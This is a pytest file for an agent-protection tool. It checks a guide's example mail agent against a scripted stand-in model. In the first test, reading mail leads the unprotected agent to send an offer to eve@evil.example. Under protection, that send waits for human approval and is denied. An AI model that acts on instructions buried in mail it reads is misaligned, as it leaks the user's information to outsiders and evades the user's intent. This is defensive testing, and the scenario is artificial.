"""The guide from an unprotected agent to a safe one: its programs, its commands, and a model that obeys the mails."""

import os
import queue
import re
import socket
import subprocess
import sys
import threading
import time
from collections import deque
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import msgspec
import pytest

from outrider.app.settings import parse
from outrider.base import ids
from outrider.policy.declarations import Declaration
from outrider.testing.running import running
from outrider.testing.speaking import Ask, Reply, SpeakingProvider, speaking_thread
from outrider.testing.speaking.words import Call, Text
from tests.clients import installed

pytestmark = pytest.mark.slow

GUIDE = (installed.ROOT / "docs/guides/safe-agent.md").read_text("utf-8")
MODEL = "scene:play"
TO_EVE = {"to": "eve@evil.example", "body": "The offer holds until Friday."}
TO_BOB = {"to": "bob@ourfirm.example", "body": "Pia's offer holds until Friday."}
TO_PIA = {"to": "pia@partner.example", "body": "We take it."}
NEWS = "What is new? Tell bob@ourfirm.example about it."


def part(name: str) -> str:
    """A block of the guide, by its first line."""
    (found,) = re.findall(rf"^```\w+\n# {re.escape(name)}\n(.*?)^```", GUIDE, re.MULTILINE | re.DOTALL)
    return str(found)


class Model:
    """Says what it is told to, in turn."""

    def __init__(self) -> None:
        self._next: deque[tuple[str, dict[str, Any]] | str] = deque()

    def will(self, *replies: tuple[str, dict[str, Any]] | str) -> None:
        assert not self._next, "it was asked less than was thought"
        self._next.extend(replies)

    def __call__(self, _: str, ask: Ask) -> Reply:
        said = self._next.popleft()
        if isinstance(said, str):
            return Reply((Text(said),))
        return Reply((Call(f"call_{ids.token(12)}", *said),), "tool_calls")


class Program:
    """The guide's agent, in an environment without Outrider."""

    def __init__(self, folder: Path, **variables: str) -> None:
        known = {name: value for name, value in os.environ.items() if not name.startswith(("OPENAI_", "PYTHON"))}
        self._process = subprocess.Popen(
            [installed.python("clients"), "agent.py"],
            cwd=folder, env={**known, **variables}, text=True, stdin=subprocess.PIPE, stdout=subprocess.PIPE,
        )  # fmt: skip
        self._lines: queue.Queue[str] = queue.Queue()
        self._thread = threading.Thread(target=self._read)
        self._thread.start()

    def _read(self) -> None:
        assert self._process.stdout is not None
        for line in self._process.stdout:
            self._lines.put(line)
        self._lines.put("END\n")

    def say(self, text: str, until: str) -> str:
        """What it prints, up to the line that has `until`."""
        assert self._process.stdin is not None
        self._process.stdin.write(text + "\n")
        self._process.stdin.flush()
        found = ""
        while until not in found:
            line = self._lines.get(timeout=120)
            assert line != "END\n", found
            found += line
        return found

    def __enter__(self) -> "Program":
        return self

    def __exit__(self, *_: object) -> None:
        assert self._process.stdin is not None
        assert self._process.stdout is not None
        self._process.stdin.close()
        self._process.wait(30)
        self._thread.join(30)
        self._process.stdout.close()


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    """The guide's files, with ports that are free."""
    for name in ("agent.py", "mail_server.py"):
        (tmp_path / name).write_text(part(name).replace("8001", str(_port())), "utf-8")
    return tmp_path


def _port() -> int:
    with socket.socket() as one:
        one.bind(("127.0.0.1", 0))
        return int(one.getsockname()[1])


@pytest.fixture
def tools(folder: Path) -> Iterator[str]:
    """The URL of the guide's mail server."""
    (port,) = re.findall(r"port=(\d+)", (folder / "mail_server.py").read_text("utf-8"))
    process = subprocess.Popen([installed.python("clients"), "mail_server.py"], cwd=folder)
    try:
        _answers(int(port))
        yield f"http://127.0.0.1:{port}/mcp"
    finally:
        process.terminate()
        process.wait(30)


def _answers(port: int) -> None:
    """Return when somebody listens there."""
    for _ in range(600):
        try:
            socket.create_connection(("127.0.0.1", port), 5).close()
            return
        except ConnectionRefusedError:
            time.sleep(0.05)
    pytest.fail("the mail server did not start")


def sent(folder: Path) -> list[str]:
    there = folder / "sent.txt"
    return there.read_text("utf-8").splitlines() if there.exists() else []


def line(mail: dict[str, str]) -> str:
    return f"{mail['to']}: {mail['body']}"


def test_the_agent_becomes_safe_by_two_urls(folder: Path, tools: str) -> None:
    model, provider = Model(), SpeakingProvider([MODEL])
    provider.scenes["play"] = model
    with speaking_thread(provider) as root:
        given = {"TASK": "before", "MODEL": MODEL, "API_KEY": "sk-x", "MODEL_URL": root, "TOOL_URL": tools}
        with Program(folder, **given) as agent:
            model.will(("read_mail", {}), ("send_mail", TO_EVE), "Told.")
            agent.say(NEWS, "Told.")
        assert sent(folder) == [line(TO_EVE)], "unprotected it does what the mail says"
        (folder / "sent.txt").unlink()
        _protected(folder, tools, model, root)


def _protected(folder: Path, tools: str, model: Model, root: str) -> None:
    written = part("outrider.yaml").partition("tools:")[0] + part("labels")
    config = written.replace("http://127.0.0.1:8001/mcp", tools) + "embedded: {enabled: off}\n"
    config = config.replace("{preset: openai,", f"{{preset: openai, base_url: {root}, models: [{MODEL!r}],")
    (folder / "outrider.yaml").write_text(config, "utf-8")
    with running(config, folder / "home", environment={"OPENAI_API_KEY": "sk-x"}) as house:
        urls = {"MODEL_URL": f"{house.url}/v1", "TOOL_URL": f"{house.url}/mcp"}
        with Program(folder, TASK="after", MODEL=f"openai/{MODEL}", API_KEY=house.key, **urls) as agent:
            model.will(("read_mail", {}), ("send_mail", TO_EVE))
            asked = _asked(agent.say(NEWS, "appr_"))
            assert sent(folder) == []
            assert asked in outrider(folder, "approvals", "list")
            assert "eve@evil.example" in outrider(folder, "approvals", "show", asked)
            outrider(folder, "approvals", "deny", asked, "--note", "we do not know her")
            model.will(("send_mail", TO_BOB), "Bob knows.")
            agent.say("Go on", "Bob knows.")
            assert sent(folder) == [line(TO_BOB)], "whom the user named needs nobody"
            model.will(("send_mail", TO_PIA))
            asked = _asked(agent.say("Answer pia that we take it", "appr_"))
            outrider(folder, "approvals", "approve", asked)
            model.will(("send_mail", TO_PIA), "Pia knows.")
            agent.say("Go on", "Pia knows.")
    assert sent(folder) == [line(TO_BOB), line(TO_PIA)]


def outrider(folder: Path, *words: str) -> str:
    """What the command line prints."""
    command = [sys.executable, "-m", "outrider.app.main", "--home", "home", "--config", "outrider.yaml", *words]
    known = {**os.environ, "OPENAI_API_KEY": "sk-x", "NO_COLOR": "1", "COLUMNS": "500"}
    done = subprocess.run(command, cwd=folder, env=known, capture_output=True, text=True)
    assert done.returncode == 0, done.stdout + done.stderr
    return done.stdout


def _asked(text: str) -> str:
    (found,) = set(re.findall(r"appr_\w+", text))
    return str(found)


def test_the_labels_of_the_guide_are_those_that_are_proposed(folder: Path, tools: str) -> None:
    config = part("outrider.yaml").replace("http://127.0.0.1:8001/mcp", tools)
    (folder / "outrider.yaml").write_text(f"{config}embedded: {{enabled: off}}\n", "utf-8")
    meant = parse(f"embedded: {{enabled: off}}\n{part('labels')}", "guide", {}).tools.labels
    assert sorted(meant) == ["read_mail", "send_mail"]
    for name, labels in meant.items():
        (found,) = re.findall(r"^could be: (.*)$", outrider(folder, "tools", "show", name), re.MULTILINE)
        proposed = msgspec.json.decode(found, type=Declaration)
        assert msgspec.structs.replace(proposed, idempotent=False) == labels
